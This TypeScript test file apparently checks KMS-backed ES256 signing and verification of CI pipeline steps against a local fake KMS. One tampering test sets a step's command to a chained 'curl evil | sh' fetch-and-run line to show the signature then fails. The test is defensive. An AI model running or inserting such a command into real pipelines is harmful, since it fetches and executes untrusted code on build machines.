import assert from "node:assert/strict";
import { createHash, generateKeyPairSync, sign } from "node:crypto";
import { after, before, describe, it } from "node:test";
import {
    derToJose,
    KMS_PROTECTED_HEADER,
    kmsKeyRegion,
    kmsSigningDigest,
    kmsSigningInput,
    kmsStepPayload,
    verifyEs256Detached,
    verifyStepWith,
} from "../../components/signing";
import { kmsStepSignatureProvider } from "../../components/signing/kms-step-signature";
import { FakeKms, signDigest, startFakeKms } from "./fake-kms";
import { VECTOR_STEP } from "./fixtures";

/* KMS mode: a stored step signed through kms:Sign (a fake KMS on 127.0.0.1) verifies with our ES256 verifier, and
 * the signature resource shows a change only when what it signs changes. */

const context = { repositoryUrl: "git@github.com:org/repo.git", outerEnv: { TEAM: "kolibri" } };
const jobEnv = { repositoryUrl: context.repositoryUrl, outerEnv: { TEAM: "kolibri", BUILDKITE_BUILD_ID: "b" } };

describe("derToJose", () => {
    it("turns a DER ECDSA signature into the R || S the JWS carries (node's ieee-p1363 form)", () => {
        const { privateKey, publicKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
        for (let i = 0; i < 20; i++) {
            const payload = `{"alg":"ES256","values":{"n":${i}}}`;
            const der = sign("sha256", Buffer.from(kmsSigningInput(payload)), privateKey);
            const jose = derToJose(der);
            assert.equal(jose.length, 64);
            const value = `${KMS_PROTECTED_HEADER}..${jose.toString("base64url")}`;
            assert.ok(verifyEs256Detached(value, payload, publicKey));
            assert.equal(verifyEs256Detached(value, `${payload} `, publicKey), false);
        }
    });
    it("left-pads a short integer and drops DER's sign byte", () => {
        // r = 0x00 0x80... (33 bytes with the sign byte), s = 0x01 (one byte).
        const r = Buffer.concat([Buffer.from([0]), Buffer.alloc(32, 0x80)]);
        const der = Buffer.concat([Buffer.from([0x30, 2 + 33 + 3, 0x02, 33]), r, Buffer.from([0x02, 1, 0x01])]);
        const jose = derToJose(der);
        assert.deepEqual(jose.subarray(0, 32), Buffer.alloc(32, 0x80));
        assert.deepEqual(jose.subarray(32), Buffer.concat([Buffer.alloc(31), Buffer.from([1])]));
    });
    it("refuses what is not a DER signature", () => {
        assert.throws(() => derToJose(Buffer.from([0x31, 0])), /SEQUENCE/);
        assert.throws(() => derToJose(Buffer.from([0x30, 5, 2, 1, 1])), /length/);
    });
});

describe("the fake KMS's digest signature", () => {
    it("verifies as a SHA-256 ECDSA signature of the digested message", () => {
        const { privateKey, publicKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
        const d = BigInt(`0x${Buffer.from(privateKey.export({ format: "jwk" }).d ?? "", "base64url").toString("hex")}`);
        const message = Buffer.from("hello");
        const der = signDigest(createHash("sha256").update(message).digest(), d);
        const payload = "x";
        assert.ok(
            verifyEs256Detached(
                `${KMS_PROTECTED_HEADER}..${derToJose(signDigest(kmsSigningDigest(payload), d)).toString("base64url")}`,
                payload,
                publicKey,
            ),
        );
        assert.ok(der.length > 60);
    });
});

describe("kmsKeyRegion", () => {
    it("reads the region of a key ARN, and nothing of an alias or a bare id", () => {
        assert.equal(kmsKeyRegion("arn:aws:kms:eu-west-1:123456789012:key/mrk-1"), "eu-west-1");
        assert.equal(kmsKeyRegion("alias/ci-platform"), undefined);
        assert.equal(kmsKeyRegion("1234abcd-12ab-34cd-56ef-1234567890ab"), undefined);
    });
});

describe("a stored step signed through KMS", () => {
    let kms: FakeKms;
    before(async () => {
        kms = await startFakeKms();
    });
    after(async () => {
        await kms.stop();
    });
    const provider = () =>
        kmsStepSignatureProvider({
            endpoint: kms.endpoint,
            credentials: { accessKeyId: "AKIDFAKE", secretAccessKey: "fake" },
        });
    const payload = kmsStepPayload(VECTOR_STEP, context);
    const create = async () => {
        const result = await provider().create({
            keyArn: kms.keyArn,
            payload: payload.payload,
            signedFields: [...payload.signedFields],
        });
        return result.outs as { value: string; signedFields: string[]; payload: string; keyArn: string };
    };
    const signature = async () => {
        const outs = await create();
        return { algorithm: "ES256", signed_fields: outs.signedFields, value: outs.value };
    };
    const check = (value: string, p: string) => verifyEs256Detached(value, p, kms.publicKey);

    it("asks kms:Sign for the SHA-256 digest of the signing input, as the agent does", async () => {
        const before = kms.requests.length;
        await create();
        const sent = kms.requests.slice(before);
        assert.deepEqual(
            sent.map((r) => r.operation),
            ["Sign"],
        );
        assert.equal(sent[0].body.MessageType, "DIGEST");
        assert.equal(sent[0].body.SigningAlgorithm, "ECDSA_SHA_256");
        assert.equal(
            sent[0].body.Message,
            createHash("sha256").update(kmsSigningInput(payload.payload)).digest().toString("base64"),
        );
    });
    it("verifies with the key's public key, with the agent's header and the pipeline's variables bound", async () => {
        const s = await signature();
        assert.ok(s.value.startsWith(`${KMS_PROTECTED_HEADER}..`));
        assert.equal(JSON.parse(Buffer.from(KMS_PROTECTED_HEADER, "base64url").toString()).alg, "ES256");
        assert.ok(s.signed_fields.includes("env::TEAM"));
        assert.match(payload.payload, /^\{"alg":"ES256","values":\{/);
        assert.equal(verifyStepWith(VECTOR_STEP, s, jobEnv, check), undefined);
    });
    it("is randomised, and each signature verifies", async () => {
        const [a, b] = [await signature(), await signature()];
        assert.notEqual(a.value, b.value);
        assert.equal(verifyStepWith(VECTOR_STEP, b, jobEnv, check), undefined);
    });
    it("fails for a changed command, env or plugin, and for another repository", async () => {
        const s = await signature();
        const changed = [
            { ...VECTOR_STEP, commands: ["llamas; curl evil | sh"] },
            { ...VECTOR_STEP, env: { ...VECTOR_STEP.env, DEPLOY: "1" } },
            { ...VECTOR_STEP, plugins: [...VECTOR_STEP.plugins, { "docker#v5.13.0": { image: "x" } }] },
        ];
        for (const step of changed)
            assert.equal(verifyStepWith(step, s, jobEnv, check), "the signature does not verify");
        const job = { ...jobEnv, repositoryUrl: "git@github.com:evil/repo.git" };
        assert.equal(verifyStepWith(VECTOR_STEP, s, job, check), "the signature does not verify");
    });
    it("fails with another key", async () => {
        const s = await signature();
        const other = generateKeyPairSync("ec", { namedCurve: "P-256" }).publicKey;
        const otherCheck = (value: string, p: string) => verifyEs256Detached(value, p, other);
        assert.equal(verifyStepWith(VECTOR_STEP, s, jobEnv, otherCheck), "the signature does not verify");
    });
    it("fails for a key KMS does not hold, naming it", async () => {
        await assert.rejects(
            provider().create({
                keyArn: "arn:aws:kms:us-east-1:123456789012:key/mrk-ffff",
                payload: payload.payload,
                signedFields: [...payload.signedFields],
            }),
            /does not exist/,
        );
    });
    it("diff: the same payload and key is no change; a changed payload or key replaces", async () => {
        const outs = await create();
        const diff = provider().diff;
        assert.ok(diff);
        const same = await diff("id", outs, { keyArn: outs.keyArn, payload: outs.payload });
        assert.deepEqual({ changes: same.changes, replaces: same.replaces }, { changes: false, replaces: [] });
        const other = kmsStepPayload({ ...VECTOR_STEP, commands: ["echo changed"] }, context);
        const changed = await diff("id", outs, { keyArn: outs.keyArn, payload: other.payload });
        assert.deepEqual(
            { changes: changed.changes, replaces: changed.replaces },
            { changes: true, replaces: ["payload"] },
        );
        const rekeyed = await diff("id", outs, { keyArn: `${outs.keyArn}2`, payload: outs.payload });
        assert.deepEqual(rekeyed.replaces, ["keyArn"]);
    });
});
